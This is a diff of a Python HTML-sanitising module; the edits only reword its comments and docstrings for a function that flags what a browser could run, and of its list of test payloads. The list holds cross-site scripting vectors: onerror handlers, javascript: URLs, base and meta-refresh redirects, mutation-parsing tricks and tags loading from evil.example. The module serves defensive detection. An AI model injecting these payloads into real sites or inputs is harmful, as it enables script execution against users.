@@ -1,4 +1,4 @@
-"""Hostile HTML, and what of an HTML text a browser could run."""
+"""Hostile HTML, and a function that finds what a browser could run in an HTML text."""
 
 import re
 import warnings
@@ -28,7 +28,7 @@ _ADDRESSES = {
     *("dynsrc", "lowsrc", "ping", "manifest", "profile", "codebase", "classid", "archive", "code", "usemap", "icon"),
     *("imagesrcset", "from", "to", "by", "values", "folder"),
 }
-# What browsers skip at the beginning and within (https://url.spec.whatwg.org/#concept-basic-url-parser).
+# Characters that browsers skip in a URL (https://url.spec.whatwg.org/#concept-basic-url-parser).
 _SKIPPED_FIRST = "".join(map(chr, range(0x21)))
 _SKIPPED = re.compile(r"[\t\n\r]")
 _SCHEME = re.compile(r"(?:(?:feed|jar|view-source|wyciwyg):)*(?:javascript|vbscript|livescript|mocha|data):", re.I)
@@ -36,19 +36,19 @@ _IN_STYLE = re.compile(r"expression\s*\(|javascript:|vbscript:|data:|-moz-bindin
 _CSS_COMMENT = re.compile(r"/\*.*?\*/", re.DOTALL)
 _CSS_ESCAPE = re.compile(r"\\(?:([0-9a-f]{1,6})\s?|(.))", re.I | re.DOTALL)
 # A tag and its attributes as browsers read them (https://html.spec.whatwg.org/multipage/parsing.html#tag-open-state).
-# Each `<` with a letter behind is taken for a tag, even in comments and values: what is clean has none there.
+# Each `<` before a letter counts as a tag, even in comments and values: clean HTML has none there.
 _TAG = re.compile(r"(?=<([a-z][^\s/>]*)((?:[^>\"']|\"[^\"]*\"|'[^']*'){0,20000}))", re.I)
 _ATTRIBUTE = re.compile(r"([^\s/>=][^\s/>=]*)(?:\s*=\s*(?:\"([^\"]*)\"|'([^']*)'|([^\s>]*)))?")
 
 
 def executable(html: str) -> list[str]:
-    """What a browser could run of it, or be led away by: a line each; nothing of clean HTML."""
+    """Return a line for each part that a browser could run, or that could redirect it. Clean HTML has none."""
     return list(dict.fromkeys(line for name, attributes in _tags(html) for line in _dangers(name, attributes)))
 
 
 def _tags(html: str) -> Iterator[tuple[str, list[tuple[str, str]]]]:
-    """As Python's parser reads them, and as browsers do, who differ on broken ones."""
-    with warnings.catch_warnings(action="ignore"):  # that it looks like XML, or like an address
+    """Yield the tags as Python's parser reads them, and as browsers do: they differ on broken HTML."""
+    with warnings.catch_warnings(action="ignore"):  # warnings that the text looks like XML or a URL
         soup = BeautifulSoup(html, "html.parser", multi_valued_attributes=None)
     for tag in soup.find_all(True):
         yield tag.name.lower(), [(name.lower(), str(value)) for name, value in tag.attrs.items()]
@@ -81,7 +81,7 @@ def _runs(address: str) -> bool:
 
 
 def _read_style(value: str) -> str:
-    """Without comments, and with the characters that escapes stand for."""
+    """Return a style without comments, and with its escapes replaced by characters."""
 
     def character(match: re.Match) -> str:
         number = int(match[1], 16) if match[1] else 0
@@ -105,7 +105,7 @@ PAYLOADS: list[str] = [
     "<svg><script>alert&#40;1&#41;</script></svg>",
     "<svg><script href=data:text/javascript,alert(1) />",
     "<math><script>alert(1)</script></math>",
-    # Handlers.
+    # Event handlers.
     "<img src=x onerror=alert(1)>",
     '<img/src="x"/onerror=alert(1)>',
     '<img src="x"onerror="alert(1)">',
@@ -183,7 +183,7 @@ PAYLOADS: list[str] = [
     "<embed src=//evil.example/x.swf allowscriptaccess=always>",
     "<applet code=x.class codebase=//evil.example/></applet>",
     "<portal src=//evil.example/>",
-    # What changes the page itself.
+    # Elements that change the page itself.
     "<base href=javascript:alert(1)//>",
     "<base href=//evil.example/>",
     "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
@@ -201,7 +201,7 @@ PAYLOADS: list[str] = [
     "<p style='-moz-binding:url(//evil.example/x.xml#x)'>words</p>",
     "<p style='behavior:url(x.htc)'>words</p>",
     "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>words</td></tr></table>",
-    # What reads differently the second time it is parsed.
+    # HTML that is parsed differently the second time.
     "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
     "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
     "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
